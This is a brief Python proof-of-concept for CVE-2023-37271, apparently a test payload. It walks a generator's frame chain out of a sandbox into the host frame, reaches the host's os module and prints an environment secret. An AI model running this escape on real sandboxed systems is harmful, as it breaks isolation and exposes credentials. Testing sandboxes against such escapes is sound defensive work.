# CVE-2023-37271: a host frame's f_locals (the caller of the script) and its globals.
def walk():
    yield gen.gi_frame.f_back.f_back
gen = walk()
host = next(gen)
env = host.f_globals["os"].environ
print(env["STATEK_TEST_SECRET"])
